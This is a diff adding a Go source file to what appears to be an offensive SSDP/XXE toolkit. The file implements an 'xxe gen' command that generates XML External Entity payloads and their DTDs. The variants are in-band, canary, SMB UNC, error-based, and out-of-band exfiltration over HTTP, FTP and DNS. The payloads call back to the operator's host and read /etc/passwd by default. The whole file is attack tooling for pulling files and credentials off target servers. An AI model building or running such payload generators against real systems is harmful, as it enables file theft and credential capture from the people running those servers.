@@ -0,0 +1,157 @@
+package main
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+
+	"goSSDPkit/pkg/ssdp"
+	"goSSDPkit/pkg/xxe"
+)
+
+// defaultXXEFile is the file the generated payloads read unless -file says
+// otherwise
+const defaultXXEFile = "/etc/passwd"
+
+// runXXECommand implements the xxe subcommand
+func runXXECommand(args []string) error {
+	config := Config{Port: 8888}
+	ip := ""
+	file := defaultXXEFile
+	kind := ""
+	output := ""
+
+	configPath, err := findConfigFlag(args)
+	if err != nil {
+		return err
+	}
+	if configPath != "" {
+		if err := loadConfigFile(configPath, &config); err != nil {
+			return err
+		}
+		if config.XXEFile != "" {
+			file = config.XXEFile
+		}
+	}
+
+	fs := newFlagSet("xxe", func() {
+		fmt.Fprintf(os.Stderr, "usage: %s xxe gen [INTERFACE] [-c FILE] [-ip IP] [-p PORT] [-s SMB]\n", os.Args[0])
+		fmt.Fprintf(os.Stderr, "       [-ftp-port PORT] [-dns-domain DOMAIN] [-file PATH] [-type NAME] [-o DIR]\n\n")
+		fmt.Fprintf(os.Stderr, "Print XXE payload variants pointing at this host's listeners: in-band,\n")
+		fmt.Fprintf(os.Stderr, "canary, SMB, out-of-band over HTTP, FTP and DNS, and error-based. Variants\n")
+		fmt.Fprintf(os.Stderr, "with a DTD expect it served at %s, e.g. as a template's data.dtd.\n\n", xxe.DTDPath)
+		fmt.Fprintf(os.Stderr, "positional arguments:\n")
+		fmt.Fprintf(os.Stderr, "  INTERFACE             Interface whose address the payloads call back to.\n")
+		fmt.Fprintf(os.Stderr, "                        Defaults to the config file's.\n\n")
+		fmt.Fprintf(os.Stderr, "optional arguments:\n")
+		fmt.Fprintf(os.Stderr, "  -c FILE, --config FILE\n")
+		fmt.Fprintf(os.Stderr, "                        Take the address, ports and domain from a config file.\n")
+		fmt.Fprintf(os.Stderr, "  -ip IP                Address to call back to instead of the interface's.\n")
+		fmt.Fprintf(os.Stderr, "  -p PORT, --port PORT  HTTP port. Defaults to 8888.\n")
+		fmt.Fprintf(os.Stderr, "  -s SMB, --smb SMB     SMB server for UNC paths. Defaults to the address.\n")
+		fmt.Fprintf(os.Stderr, "  -ftp-port PORT        Add the FTP variant for this FTP listener port.\n")
+		fmt.Fprintf(os.Stderr, "  -dns-domain DOMAIN    Add the DNS variant for this exfiltration domain.\n")
+		fmt.Fprintf(os.Stderr, "  -file PATH            File to read. Defaults to the config file's xxe_file\n")
+		fmt.Fprintf(os.Stderr, "                        or %s.\n", defaultXXEFile)
+		fmt.Fprintf(os.Stderr, "  -type NAME            Only this variant: inband, canary, smb, oob-http,\n")
+		fmt.Fprintf(os.Stderr, "                        oob-ftp, oob-dns or error.\n")
+		fmt.Fprintf(os.Stderr, "  -o DIR, --output DIR  Write NAME.xml and NAME.dtd files to DIR instead of\n")
+		fmt.Fprintf(os.Stderr, "                        printing them.\n")
+	})
+	fs.String("c", configPath, "")
+	fs.String("config", configPath, "")
+	fs.StringVar(&ip, "ip", ip, "")
+	fs.IntVar(&config.Port, "p", config.Port, "")
+	fs.IntVar(&config.Port, "port", config.Port, "")
+	fs.StringVar(&config.SMBServer, "s", config.SMBServer, "")
+	fs.StringVar(&config.SMBServer, "smb", config.SMBServer, "")
+	fs.IntVar(&config.FTPPort, "ftp-port", config.FTPPort, "")
+	fs.StringVar(&config.DNSDomain, "dns-domain", config.DNSDomain, "")
+	fs.StringVar(&file, "file", file, "")
+	fs.StringVar(&kind, "type", kind, "")
+	fs.StringVar(&output, "o", output, "")
+	fs.StringVar(&output, "output", output, "")
+
+	positional, err := parseInterspersed(fs, args)
+	if err != nil {
+		return err
+	}
+	if len(positional) == 0 || positional[0] != "gen" || len(positional) > 2 {
+		fs.Usage()
+		return fmt.Errorf("expected gen [INTERFACE]")
+	}
+
+	if ip == "" {
+		ip = config.AdvertiseIP
+	}
+	if ip == "" {
+		iface := ""
+		if len(positional) == 2 {
+			iface = positional[1]
+		} else if len(config.Interfaces) > 0 {
+			iface = config.Interfaces[0]
+		}
+		if iface == "" {
+			fs.Usage()
+			return fmt.Errorf("an interface or -ip is required")
+		}
+		if ip, err = getIPFromInterface(iface); err != nil {
+			return err
+		}
+	}
+	port := config.Port
+	if config.AdvertisePort != 0 {
+		port = config.AdvertisePort
+	}
+
+	var payloads []xxe.Payload
+	for _, p := range xxe.Generate(xxe.Params{
+		LocalIP:   ip,
+		LocalPort: port,
+		SMBServer: config.SMBServer,
+		FTPPort:   config.FTPPort,
+		DNSDomain: strings.Trim(config.DNSDomain, "."),
+		File:      file,
+	}) {
+		if kind == "" || p.Name == kind {
+			payloads = append(payloads, p)
+		}
+	}
+	if len(payloads) == 0 {
+		return fmt.Errorf("no %s variant; oob-ftp needs -ftp-port and oob-dns needs -dns-domain", kind)
+	}
+
+	if output == "" {
+		for i, p := range payloads {
+			if i > 0 {
+				fmt.Println()
+			}
+			fmt.Printf("### %s: %s\n\n", p.Name, p.Description)
+			fmt.Print(p.XML)
+			if p.DTD != "" {
+				fmt.Printf("\n--- data.dtd, served at http://%s:%d%s\n\n", ip, port, xxe.DTDPath)
+				fmt.Print(p.DTD)
+			}
+		}
+		return nil
+	}
+
+	if err := os.MkdirAll(output, 0755); err != nil {
+		return fmt.Errorf("failed to create output directory: %w", err)
+	}
+	for _, p := range payloads {
+		files := map[string]string{p.Name + ".xml": p.XML}
+		if p.DTD != "" {
+			files[p.Name+".dtd"] = p.DTD
+		}
+		for name, content := range files {
+			path := filepath.Join(output, name)
+			if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+				return fmt.Errorf("failed to write %s: %w", path, err)
+			}
+			fmt.Printf("%sWrote %s\n", ssdp.OkBox, path)
+		}
+	}
+	return nil
+}